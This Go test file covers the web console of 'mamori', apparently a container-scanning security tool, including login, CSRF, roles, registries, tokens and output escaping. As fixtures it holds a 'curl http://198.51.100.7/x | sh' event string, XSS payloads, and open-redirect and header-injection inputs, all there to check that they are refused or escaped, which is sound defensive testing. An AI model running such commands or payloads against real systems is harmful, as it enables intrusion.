package console

import (
	"context"
	"html"
	"log/slog"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"mamori/internal/auth"
	"mamori/internal/store"
)

func TestLoginLogout(t *testing.T) {
	e := newEnv(t)
	c := e.anon()

	code, _, hdr := c.get("/vulnerabilities?severity=critical")
	if code != http.StatusSeeOther || hdr.Get("Location") != "/login?next="+url.QueryEscape("/vulnerabilities?severity=critical") {
		t.Fatalf("anonymous page: %d %q", code, hdr.Get("Location"))
	}
	code, body, _ := c.get("/login?next=" + url.QueryEscape("/vulnerabilities?severity=critical"))
	if code != http.StatusOK || !strings.Contains(body, "Log in to the console") {
		t.Fatalf("login page: %d", code)
	}
	lc := fieldValue(body, "login_csrf")
	if lc == "" || fieldValue(body, "next") != "/vulnerabilities?severity=critical" {
		t.Fatalf("login form fields: login_csrf=%q next=%q", lc, fieldValue(body, "next"))
	}

	// A wrong token, a missing login CSRF value, a forged one: all refused.
	code, body, _ = c.post("/login", url.Values{"token": {"mmr_" + strings.Repeat("x", 43)}, "login_csrf": {lc}})
	if code != http.StatusUnauthorized || !strings.Contains(body, "not valid") {
		t.Errorf("bad token: %d", code)
	}
	code, _, _ = c.post("/login", url.Values{"token": {e.tokens[auth.RoleViewer]}})
	if code != http.StatusForbidden {
		t.Errorf("login without login_csrf: %d, want 403", code)
	}
	code, body, _ = c.post("/login", url.Values{"token": {e.tokens[auth.RoleViewer]}, "login_csrf": {"forged"}})
	if code != http.StatusForbidden {
		t.Errorf("login with forged login_csrf: %d, want 403", code)
	}
	lc = fieldValue(body, "login_csrf")

	// A real login returns to the page asked for.
	code, _, hdr = c.post("/login", url.Values{"token": {e.tokens[auth.RoleViewer]}, "login_csrf": {lc},
		"next": {"/vulnerabilities?severity=critical"}})
	if code != http.StatusSeeOther || hdr.Get("Location") != "/vulnerabilities?severity=critical" {
		t.Fatalf("login: %d %q", code, hdr.Get("Location"))
	}
	if sc := hdr.Get("Set-Cookie"); !strings.Contains(sc, "HttpOnly") || !strings.Contains(sc, "SameSite=Strict") {
		t.Errorf("session cookie attributes: %q", sc)
	}
	code, body, _ = c.get("/vulnerabilities?severity=critical")
	if code != http.StatusOK || !strings.Contains(body, "console-viewer") {
		t.Fatalf("page after login: %d", code)
	}
	csrf := fieldValue(body, "csrf_token")

	// Logout needs the CSRF token.
	code, _, _ = c.post("/logout", url.Values{})
	if code != http.StatusForbidden {
		t.Errorf("logout without CSRF: %d, want 403", code)
	}
	code, _, hdr = c.post("/logout", url.Values{"csrf_token": {csrf}})
	if code != http.StatusSeeOther || hdr.Get("Location") != "/login" {
		t.Errorf("logout: %d %q", code, hdr.Get("Location"))
	}
	if code, _, _ = c.get("/images"); code != http.StatusSeeOther {
		t.Errorf("after logout /images: %d, want a redirect to login", code)
	}
}

func TestSafeNext(t *testing.T) {
	for in, want := range map[string]string{
		"/images":                  "/images",
		"/vulnerabilities?q=x":     "/vulnerabilities?q=x",
		"":                         "",
		"https://evil.test/":       "",
		"//evil.test/":             "",
		"/\\evil.test":             "",
		"/images\r\nSet-Cookie: x": "",
		"/login":                   "",
		"images":                   "",
	} {
		if got := safeNext(in); got != want {
			t.Errorf("safeNext(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestPages(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleViewer)
	img := "/images/" + strconv.FormatInt(e.imgID, 10)

	tests := []struct {
		path    string
		want    []string
		notWant []string
	}{
		{"/images", []string{"Images scanned", "registry.local/payments/api:1.4.2", "registry.local/web/frontend:2024.06",
			"Debian GNU/Linux 12 (bookworm)", `class="count count-critical">3<`}, nil},
		{"/images?q=frontend", []string{"registry.local/web/frontend:2024.06"}, []string{"payments/api"}},
		{"/images?q=nothing-matches-this", []string{"No image matches"}, nil},
		{img, []string{"DEBIAN-CVE-2023-38545", "7.88.1-10&#43;deb12u4", "no fix yet", "sha256:1111111111111111111111111111111111111111111111111111111111111111",
			"Scan warnings", "clamd: 1 file over the size cap"}, nil},
		{img + "?tab=vulns&severity=critical", []string{"DEBIAN-CVE-2023-45853", "DEBIAN-CVE-2023-38545"}, []string{"DEBIAN-CVE-2023-4911"}},
		{img + "?tab=vulns&q=lodash", []string{"GHSA-35jh-r3h4-6jhm", "4.17.21"}, []string{"DEBIAN-CVE-2023-4911"}},
		{img + "?tab=packages", []string{"libssl3", "3.0.11-1~deb12u1", "pkg:deb/debian/libssl3", "GPL-2.0-or-later"}, nil},
		{img + "?tab=packages&q=zlib", []string{"zlib1g"}, []string{"libssl3"}},
		{img + "?tab=secrets", []string{"AWS access key ID", "AKIA****(20 chars)", "app/.env:3", "GitHub personal access token"}, []string{rawGitHubPAT}},
		{img + "?tab=malware", []string{"EICAR test file", "tmp/eicar.com", "clamav"}, nil},
		{img + "?tab=misconfig", []string{"Image runs as root", "Add a USER instruction", "CIS-Docker-4.1"}, nil},
		{img + "?tab=layers", []string{"ADD file:bookworm-slim", "27.8 MiB"}, nil},
		{img + "?tab=scans", []string{"scan-0", "latest"}, nil},
		{"/vulnerabilities", []string{"DEBIAN-CVE-2023-38545", "DEBIAN-TEMP-0841856-B18BAF", "Fix available", "No fix yet"}, nil},
		{"/vulnerabilities?severity=critical", []string{"DEBIAN-CVE-2023-38545", "DEBIAN-CVE-2023-45853"}, []string{"DEBIAN-CVE-2023-4911", "DEBIAN-CVE-2011-3374"}},
		{"/vulnerabilities?severity=high&severity=low", []string{"DEBIAN-CVE-2023-4911", "DEBIAN-CVE-2022-0563"}, []string{"DEBIAN-CVE-2023-45853", "DEBIAN-CVE-2023-5678"}},
		{"/vulnerabilities?cvssMin=7&cvssMax=8", []string{"DEBIAN-CVE-2023-4911", "GHSA-35jh-r3h4-6jhm"}, []string{"DEBIAN-CVE-2024-2961", "DEBIAN-CVE-2023-45853"}},
		{"/vulnerabilities?fixable=1&severity=critical", []string{"DEBIAN-CVE-2023-38545"}, []string{"DEBIAN-CVE-2023-45853"}},
		{"/vulnerabilities?q=libc6", []string{"DEBIAN-CVE-2023-4911", "DEBIAN-CVE-2024-2961"}, []string{"DEBIAN-CVE-2023-38545"}},
		{"/vulnerabilities?q=CVE-2021-23337", []string{"GHSA-35jh-r3h4-6jhm"}, []string{"DEBIAN-CVE-2023-4911"}},
		{"/vulnerabilities?q=zzz-none", []string{"No vulnerability matches these filters"}, nil},
		{"/vulnerabilities/DEBIAN-CVE-2023-38545", []string{"SOCKS5 heap buffer overflow", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "9.8",
			"registry.local/payments/api:1.4.2", "libcurl4", "7.88.1-10&#43;deb12u3", "7.88.1-10&#43;deb12u4",
			"No cluster reports workloads yet", "https://nvd.nist.gov/vuln/detail/CVE-2023-38545"}, nil},
		{"/vulnerabilities/CVE-2023-38545", []string{"DEBIAN-CVE-2023-38545"}, nil}, // by alias
		{"/events", []string{"Shell started in a container", "T1059.004", "payments", "api-7d9f", "Executable not in the image",
			"terminate", "Image tag latest", "bastion", "Eicar-Test-Signature", "curl http://198.51.100.7/x | sh", "prod agents",
			"&lt;script&gt;alert(&#39;event&#39;)&lt;/script&gt;"}, []string{hostileEventMessage}},
		{"/events?source=runtime", []string{"Shell started in a container", "Executable not in the image"}, []string{"Image tag latest", "bastion"}},
		{"/events?severity=critical", []string{"Executable not in the image", "bastion"}, []string{"Shell started in a container", "Image tag latest"}},
		{"/events?namespace=web&action=block", []string{"Image tag latest"}, []string{"Executable not in the image"}},
		{"/events?technique=T1036", []string{"Executable not in the image"}, []string{"Shell started"}},
		{"/events?q=XMRIG", []string{"Executable not in the image"}, []string{"Shell started"}},
		{"/events?cluster=nope", []string{"No event matches these filters"}, nil},
		{"/registries", []string{"No registries yet", "An administrator adds registries"}, []string{"/registries/new"}},
		{"/scanner", []string{"mamori image --input image.tar --server " + e.srv.URL + " --token", "MAMORI_TOKEN", "Ask an administrator"}, []string{"Create CI token"}},
		{"/settings/tokens", []string{"console-admin", "console-operator", "console-viewer", "mmr_"}, []string{"Create a token", "Revoke"}},
	}
	for _, tc := range tests {
		code, body, hdr := c.get(tc.path)
		if code != http.StatusOK {
			t.Errorf("GET %s: %d", tc.path, code)
			continue
		}
		if csp := hdr.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'self'") {
			t.Errorf("GET %s: CSP %q", tc.path, csp)
		}
		for _, w := range tc.want {
			if !strings.Contains(body, w) {
				t.Errorf("GET %s: missing %q", tc.path, w)
			}
		}
		for _, w := range tc.notWant {
			if strings.Contains(body, w) {
				t.Errorf("GET %s: unexpected %q", tc.path, w)
			}
		}
	}

	for _, p := range []string{"/images/999999", "/images/abc", "/vulnerabilities/NOPE-1", "/no/such/page"} {
		if code, body, _ := c.get(p); code != http.StatusNotFound || !strings.Contains(body, "Not found") {
			t.Errorf("GET %s: %d, want 404 page", p, code)
		}
	}
}

// TestVulnerabilityOrderAndPaging checks severity order and server-side
// pages: every ID appears exactly once over the pages, worst first.
func TestVulnerabilityOrderAndPaging(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleViewer)
	sevRank := map[string]int{"Critical": 5, "High": 4, "Medium": 3, "Low": 2, "Negligible": 1, "Unknown": 0}
	rowRE := regexp.MustCompile(`<span class="sev sev-[a-z]+">([A-Za-z]+)</span></td>\s*<td><a class="primary" href="/vulnerabilities/([^"]+)"`)
	seen := map[string]bool{}
	last := 6
	total := 0
	for page := 1; page <= 10; page++ {
		code, body, _ := c.get("/vulnerabilities?sort=severity&per=4&page=" + strconv.Itoa(page))
		if code != http.StatusOK {
			t.Fatalf("page %d: %d", page, code)
		}
		rows := rowRE.FindAllStringSubmatch(body, -1)
		if len(rows) == 0 {
			break
		}
		if len(rows) > 4 {
			t.Fatalf("page %d has %d rows, want at most 4", page, len(rows))
		}
		for _, r := range rows {
			if seen[r[2]] {
				t.Errorf("%s on two pages", r[2])
			}
			seen[r[2]] = true
			if sevRank[r[1]] > last {
				t.Errorf("%s (%s) after a lower severity", r[2], r[1])
			}
			last = sevRank[r[1]]
			total++
		}
		if page == 1 && !strings.Contains(body, "of <strong>12</strong>") {
			t.Errorf("page 1 does not say 12 in total")
		}
	}
	if total != 12 {
		t.Errorf("saw %d vulnerabilities over the pages, want 12", total)
	}
}

// TestHostileContent: markup, terminal escapes and bidi controls from
// scanned content never reach a page unescaped.
func TestHostileContent(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleAdmin)
	_, list, _ := c.get("/images?q=evil")
	m := regexp.MustCompile(`href="/images/(\d+)"`).FindStringSubmatch(list)
	if m == nil {
		t.Fatal("hostile image not listed")
	}
	pages := []string{"/images", "/images/" + m[1], "/images/" + m[1] + "?tab=packages", "/images/" + m[1] + "?tab=vulns&q=evil",
		"/vulnerabilities", "/vulnerabilities?q=" + url.QueryEscape(hostilePkg), "/vulnerabilities/GHSA-evil-0000-0000",
		"/vulnerabilities/GHSA-35jh-r3h4-6jhm", "/images?q=" + url.QueryEscape("<script>alert(1)</script>")}
	for _, p := range pages {
		code, body, _ := c.get(p)
		if code != http.StatusOK {
			t.Errorf("GET %s: %d", p, code)
			continue
		}
		for _, bad := range []string{"<script>alert", "<img src=x", "<b>bold</b>", "\x1b", "\u202e", `href="javascript:`} {
			if strings.Contains(body, bad) {
				t.Errorf("GET %s: contains %q", p, bad)
			}
		}
	}
	_, body, _ := c.get("/images/" + m[1] + "?tab=packages")
	for _, want := range []string{"&lt;script&gt;alert(&#34;pkg&#34;)&lt;/script&gt;", `\x1b[31m&lt;img src=x onerror=alert(1)&gt;\u202egnp.js`} {
		if !strings.Contains(body, want) {
			t.Errorf("hostile package not shown escaped: missing %q", want)
		}
	}
	_, body, _ = c.get("/images")
	if !strings.Contains(body, "registry.local/evil/&lt;script&gt;alert(&#39;img&#39;)&lt;/script&gt;:latest") {
		t.Error("hostile image name not shown escaped")
	}
	_, body, _ = c.get("/vulnerabilities/GHSA-35jh-r3h4-6jhm")
	if !strings.Contains(body, "javascript:alert(&#39;ref&#39;)") || strings.Contains(body, `href="javascript`) {
		t.Error("a javascript: reference must be shown as text, not linked")
	}
}

func TestDisp(t *testing.T) {
	for in, want := range map[string]string{
		"plain":             "plain",
		"a\x1b[31mb":        `a\x1b[31mb`,
		"line\nbreak":       `line\x0abreak`,
		"rtl\u202eoverride": `rtl\u202eoverride`,
		"bad\xffutf8":       "bad\uFFFDutf8",
		"日本語":               "日本語",
	} {
		if got := disp(in); got != want {
			t.Errorf("disp(%q) = %q, want %q", in, got, want)
		}
	}
	if got := prose("a\nb\tc\x00"); got != "a\nb\tc\\x00" {
		t.Errorf("prose = %q", got)
	}
}

func TestSevbar(t *testing.T) {
	segs := sevbar(store.SeverityCounts{Critical: 1, High: 999}, 144)
	if len(segs) != 2 || segs[0].W < 1.9 {
		t.Fatalf("segments %+v: a single critical must stay visible", segs)
	}
	end := segs[len(segs)-1].X + segs[len(segs)-1].W
	if end > 144.001 {
		t.Errorf("bar overflows: ends at %v", end)
	}
	if s := sevbar(store.SeverityCounts{}, 144); len(s) != 1 || s[0].Class != "b-none" {
		t.Errorf("empty bar = %+v", s)
	}
}

// TestRoles: viewers and operators see no write controls, and their
// writes are refused server-side; admin writes need the CSRF token.
func TestRoles(t *testing.T) {
	e := newEnv(t)
	for _, role := range []auth.Role{auth.RoleViewer, auth.RoleOperator} {
		c := e.login(role)
		for _, p := range []string{"/registries", "/settings/tokens", "/scanner"} {
			_, body, _ := c.get(p)
			for _, w := range []string{"Add registry", "Revoke", "Create a token", "Create CI token", "Sync now"} {
				if strings.Contains(body, w) {
					t.Errorf("%s sees %q on %s", role, w, p)
				}
			}
		}
		for _, p := range []string{"/registries", "/registries/1", "/registries/1/delete", "/registries/1/sync",
			"/settings/tokens", "/settings/tokens/1/revoke", "/scanner/token"} {
			if code, _, _ := c.postCSRF(p, url.Values{"name": {"x"}, "url": {"https://r.example"}, "role": {"admin"}}); code != http.StatusForbidden {
				t.Errorf("%s POST %s: %d, want 403", role, p, code)
			}
		}
		if code, _, _ := c.get("/registries/new"); code != http.StatusForbidden {
			t.Errorf("%s GET /registries/new: %d, want 403", role, code)
		}
	}
	toks, err := e.st.ListTokens(context.Background())
	if err != nil || len(toks) != 3 {
		t.Fatalf("tokens after refused writes: %d %v", len(toks), err)
	}

	anon := e.anon()
	if code, _, _ := anon.post("/settings/tokens", url.Values{"name": {"x"}, "role": {"admin"}}); code != http.StatusUnauthorized {
		t.Errorf("anonymous POST: %d, want 401", code)
	}
	admin := e.login(auth.RoleAdmin)
	if code, _, _ := admin.post("/settings/tokens", url.Values{"name": {"x"}, "role": {"admin"}}); code != http.StatusForbidden {
		t.Errorf("admin POST without CSRF: %d, want 403", code)
	}
	req, _ := http.NewRequest(http.MethodPost, e.srv.URL+"/settings/tokens", strings.NewReader(url.Values{"name": {"x"}, "role": {"admin"}, "csrf_token": {admin.csrf}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	resp, err := admin.hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("cross-site POST with a valid CSRF token: %d, want 403", resp.StatusCode)
	}
}

func TestRegistryCRUD(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleAdmin)
	const password = "s3cret-Registry-Passw0rd"

	_, body, _ := c.get("/registries")
	if !strings.Contains(body, "/registries/new") {
		t.Fatal("admin sees no Add registry")
	}
	// Invalid input: the form comes back with the errors and nothing is stored.
	code, body, _ := c.postCSRF("/registries", url.Values{"name": {""}, "url": {"ftp://x"}, "schedule_hours": {"-1"}, "password": {password}})
	if code != http.StatusUnprocessableEntity || !strings.Contains(body, "Name is required") || !strings.Contains(body, "Schedule:") {
		t.Errorf("invalid registry: %d", code)
	}
	if strings.Contains(body, password) {
		t.Error("the password was echoed back in the form")
	}
	code, _, hdr := c.postCSRF("/registries", url.Values{"name": {"harbor"}, "url": {"https://harbor.example.com"},
		"username": {"robot$scanner"}, "password": {password}, "repository_filter": {"team-a/*"}, "tag_filter": {"v*"}, "schedule_hours": {"6"}})
	if code != http.StatusSeeOther || hdr.Get("Location") != "/registries?done=added" {
		t.Fatalf("create registry: %d %q", code, hdr.Get("Location"))
	}
	regs, err := e.st.ListRegistries(context.Background())
	if err != nil || len(regs) != 1 {
		t.Fatalf("registries: %v %v", regs, err)
	}
	r := regs[0]
	if string(r.Secret) != "sealed:"+string(reverse([]byte(password))) || r.Schedule != 6*time.Hour || r.Username != "robot$scanner" {
		t.Errorf("stored registry = %+v (secret %q)", r, r.Secret)
	}
	id := strconv.FormatInt(r.ID, 10)
	for _, p := range []string{"/registries", "/registries/" + id + "/edit"} {
		_, body, _ := c.get(p)
		if strings.Contains(body, password) || strings.Contains(body, "sealed:") {
			t.Errorf("%s shows the registry secret", p)
		}
		if !strings.Contains(body, "harbor") {
			t.Errorf("%s does not show the registry", p)
		}
	}
	// Edit without a password keeps the stored one.
	code, _, _ = c.postCSRF("/registries/"+id, url.Values{"name": {"harbor"}, "url": {"https://harbor.example.com"}, "schedule_hours": {"0"}})
	if code != http.StatusSeeOther {
		t.Fatalf("edit: %d", code)
	}
	r2, _ := e.st.GetRegistry(context.Background(), r.ID)
	if string(r2.Secret) != string(r.Secret) || r2.Schedule != 0 || r2.Username != "" {
		t.Errorf("after edit: %+v secret kept=%v", r2, string(r2.Secret) == string(r.Secret))
	}
	// Sync now.
	code, _, hdr = c.postCSRF("/registries/"+id+"/sync", nil)
	if code != http.StatusSeeOther || len(e.syncs) != 1 || e.syncs[0] != r.ID {
		t.Errorf("sync: %d %v", code, e.syncs)
	}
	_, body, _ = c.get(hdr.Get("Location"))
	if !strings.Contains(body, "Sync started") {
		t.Error("no sync flash")
	}
	// Duplicate name.
	code, body, _ = c.postCSRF("/registries", url.Values{"name": {"harbor"}, "url": {"https://other.example.com"}})
	if code != http.StatusConflict || !strings.Contains(body, "already exists") {
		t.Errorf("duplicate: %d", code)
	}
	// Delete.
	code, _, _ = c.postCSRF("/registries/"+id+"/delete", nil)
	if regs, _ := e.st.ListRegistries(context.Background()); code != http.StatusSeeOther || len(regs) != 0 {
		t.Errorf("delete: %d, %d left", code, len(regs))
	}
}

func TestRegistryPasswordWithoutKey(t *testing.T) {
	e := newEnv(t, WithRegistrySecrets(nil))
	c := e.login(auth.RoleAdmin)
	code, body, _ := c.postCSRF("/registries", url.Values{"name": {"r"}, "url": {"r.example.com"}, "password": {"pw-pw-pw"}})
	if code != http.StatusUnprocessableEntity || !strings.Contains(body, "cannot store registry passwords") {
		t.Errorf("password without key: %d", code)
	}
	if regs, _ := e.st.ListRegistries(context.Background()); len(regs) != 0 {
		t.Error("registry stored although its password could not be encrypted")
	}
}

func TestTokens(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleAdmin)
	code, body, _ := c.postCSRF("/settings/tokens", url.Values{"name": {"ci-payments"}, "role": {"operator"}, "expires_days": {"30"}})
	if code != http.StatusCreated {
		t.Fatalf("create token: %d", code)
	}
	tok := regexp.MustCompile(`<pre class="code" id="new-token">(mmr_[A-Za-z0-9_-]+)</pre>`).FindStringSubmatch(body)
	if tok == nil {
		t.Fatal("new token not shown")
	}
	p, err := e.authn.AuthenticateToken(context.Background(), tok[1])
	if err != nil || p.Role != auth.RoleOperator || p.TokenName != "ci-payments" {
		t.Fatalf("the shown token does not authenticate as the operator: %+v %v", p, err)
	}
	_, body, _ = c.get("/settings/tokens")
	if strings.Contains(body, tok[1]) {
		t.Error("token shown a second time")
	}
	if !strings.Contains(body, "ci-payments") || !strings.Contains(body, auth.DisplayPrefix(tok[1])) {
		t.Error("token list lacks the new token's name or prefix")
	}

	// The scanner page mints operator tokens and fills the commands.
	code, body, _ = c.postCSRF("/scanner/token", url.Values{"name": {"ci-web"}})
	if code != http.StatusCreated {
		t.Fatalf("scanner token: %d", code)
	}
	m := regexp.MustCompile(`export MAMORI_TOKEN=(mmr_[A-Za-z0-9_-]+)`).FindStringSubmatch(body)
	if m == nil {
		t.Fatal("scanner page does not fill in the token")
	}
	if p, err := e.authn.AuthenticateToken(context.Background(), m[1]); err != nil || p.Role != auth.RoleOperator {
		t.Errorf("scanner token: %+v %v", p, err)
	}

	// Revoke the first new token: it no longer logs in.
	var id int64
	toks, _ := e.st.ListTokens(context.Background())
	for _, tk := range toks {
		if tk.Name == "ci-payments" {
			id = tk.ID
		}
	}
	code, _, hdr := c.postCSRF("/settings/tokens/"+strconv.FormatInt(id, 10)+"/revoke", nil)
	if code != http.StatusSeeOther || hdr.Get("Location") != "/settings/tokens?done=revoked" {
		t.Fatalf("revoke: %d %q", code, hdr.Get("Location"))
	}
	if _, err := e.authn.AuthenticateToken(context.Background(), tok[1]); err == nil {
		t.Error("revoked token still authenticates")
	}
	_, body, _ = c.get("/settings/tokens?done=revoked")
	if !strings.Contains(body, "revoked") || !strings.Contains(body, "Token revoked") {
		t.Error("revoked status not shown")
	}
	// Bad input.
	code, _, _ = c.postCSRF("/settings/tokens", url.Values{"name": {"x"}, "role": {"root"}})
	if code != http.StatusUnprocessableEntity {
		t.Errorf("bad role: %d", code)
	}
}

func TestEmptyStore(t *testing.T) {
	ctx := context.Background()
	st, err := store.Open(ctx, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	a, err := auth.New(st)
	if err != nil {
		t.Fatal(err)
	}
	cons, err := New(st, a)
	if err != nil {
		t.Fatal(err)
	}
	tok, rec, _ := auth.NewToken("first", auth.RoleAdmin, "", time.Time{})
	if _, err := st.CreateToken(ctx, rec); err != nil {
		t.Fatal(err)
	}
	e := &env{t: t, st: st, authn: a, tokens: map[auth.Role]string{auth.RoleAdmin: tok}}
	e.srv = newTestServer(t, cons)
	c := e.login(auth.RoleAdmin)
	for p, want := range map[string]string{
		"/images":          "No images scanned yet",
		"/vulnerabilities": "Nothing scanned yet",
		"/registries":      "No registries yet",
	} {
		if _, body, _ := c.get(p); !strings.Contains(body, want) {
			t.Errorf("%s: empty state %q missing", p, want)
		}
	}
}

func TestScannerServerURL(t *testing.T) {
	e := newEnv(t, WithServerURL("https://mamori.example.com:8443/"))
	c := e.login(auth.RoleOperator)
	_, body, _ := c.get("/scanner")
	for _, w := range []string{"mamori image --input image.tar --server https://mamori.example.com:8443 --token", "--server-ca tls-cert.pem"} {
		if !strings.Contains(body, w) {
			t.Errorf("scanner page lacks %q", w)
		}
	}
	if _, err := New(e.st, e.authn, WithServerURL("ftp://x")); err == nil {
		t.Error("WithServerURL accepted a non-HTTP URL")
	}
}

// TestEventsPage: the Events page pages with the API's cursor and answers
// a bad filter with its error and 400, the same filters by the same names
// as GET /api/v1/events.
func TestEventsPage(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleViewer)
	code, body, _ := c.get("/events?limit=2")
	if code != http.StatusOK || !strings.Contains(body, "Shell started in a container") || strings.Contains(body, "Image tag latest") {
		t.Fatalf("first page: %d", code)
	}
	m := regexp.MustCompile(`href="(/events\?[^"]*cursor=[^"]*)"[^>]*rel="next"`).FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no link to older events: %s", body)
	}
	next := strings.ReplaceAll(m[1], "&amp;", "&")
	code, body, _ = c.get(next)
	if code != http.StatusOK || !strings.Contains(body, "Image tag latest") || strings.Contains(body, "Shell started in a container") || !strings.Contains(body, "← Newest") {
		t.Fatalf("older page %s: %d", next, code)
	}
	for _, q := range []string{"severity=severe", "source=toaster", "since=last-week", "cursor=xyz", "action=explode"} {
		code, body, _ := c.get("/events?" + q)
		if code != http.StatusBadRequest || !strings.Contains(body, "flash-error") {
			t.Errorf("/events?%s: %d, want 400 with the error", q, code)
		}
	}
	if code, _, _ := e.anon().get("/events"); code != http.StatusSeeOther {
		t.Errorf("anonymous: %d, want a redirect to the login", code)
	}
}

// TestRegistryRulesConsole: the console's registry form goes through the
// registry service, so it refuses what the API refuses (the same rules:
// TestRegistryRulesAPI in internal/server sends the same registries).
func TestRegistryRulesConsole(t *testing.T) {
	var logs strings.Builder
	e := newEnv(t, WithLogger(slog.New(slog.NewTextHandler(&logs, nil))))
	c := e.login(auth.RoleAdmin)
	for _, tc := range []struct {
		name string
		form url.Values
		want string
	}{
		{"plain HTTP without insecure", url.Values{"url": {"http://registry.example.com"}}, "is plain HTTP: set insecure"},
		{"schedule under the minimum", url.Values{"schedule_hours": {"0.05"}}, "at least 5m0s"},
		{"not a registry address", url.Values{"url": {"registry.example.com/team"}}, "valid RFC 3986 URI authorities"},
		{"bad repository glob", url.Values{"repository_filter": {"team/["}}, "Repository filter"},
		{"URL with credentials", url.Values{"url": {"https://user:pw@registry.example.com"}}, "must not carry credentials"},
	} {
		form := url.Values{"name": {"reg-" + strings.ReplaceAll(tc.name, " ", "-")}, "url": {"https://registry.example.com"}}
		for k, v := range tc.form {
			form[k] = v
		}
		code, body, _ := c.postCSRF("/registries", form)
		if code != http.StatusUnprocessableEntity || !strings.Contains(html.UnescapeString(body), tc.want) {
			t.Errorf("%s: %d, want 422 with %q", tc.name, code, tc.want)
		}
	}
	if regs, _ := e.st.ListRegistries(context.Background()); len(regs) != 0 {
		t.Fatalf("%d registries stored from refused forms", len(regs))
	}
	// Plain HTTP when asked for, and the audit line the API writes too.
	code, _, _ := c.postCSRF("/registries", url.Values{"name": {"local"}, "url": {"http://127.0.0.1:5000"}, "insecure": {"on"}})
	if code != http.StatusSeeOther {
		t.Fatalf("insecure registry: %d", code)
	}
	if !strings.Contains(logs.String(), "registry created") || !strings.Contains(logs.String(), "by=console-admin") {
		t.Errorf("no audit line for the console's registry: %s", logs.String())
	}
}

// TestVulnerabilityFiltersAsAPI: the console's vulnerability list takes
// the API's filter names (cvssMin, cvssMax, fixable, reverse) through the
// same parser, and answers a bad value with the error and 400 instead of
// dropping it.
func TestVulnerabilityFiltersAsAPI(t *testing.T) {
	e := newEnv(t)
	c := e.login(auth.RoleViewer)
	code, body, _ := c.get("/vulnerabilities?cvssMin=9&fixable=true")
	if code != http.StatusOK || !strings.Contains(body, "DEBIAN-CVE-2023-38545") || strings.Contains(body, "DEBIAN-CVE-2023-4911") {
		t.Errorf("cvssMin=9: %d", code)
	}
	if !strings.Contains(body, `name="cvssMin" min="0" max="10" step="0.1" value="9"`) {
		t.Error("the form does not keep cvssMin")
	}
	for q, want := range map[string]string{
		"cvssMin=eleven":                "Invalid cvssMin",
		"cvssMin=11":                    "Invalid cvssMin",
		"cvssMin=8&cvssMax=2":           "CvssMin is above cvssMax",
		"severity=severe":               "Invalid severity",
		"sort=random":                   "Invalid sort",
		"fixable=maybe":                 "Invalid fixable",
		"q=" + strings.Repeat("x", 300): "at most 200 bytes",
	} {
		code, body, _ := c.get("/vulnerabilities?" + q)
		if code != http.StatusBadRequest || !strings.Contains(html.UnescapeString(body), want) {
			t.Errorf("/vulnerabilities?%.40s: %d, want 400 with %q", q, code, want)
		}
	}
}
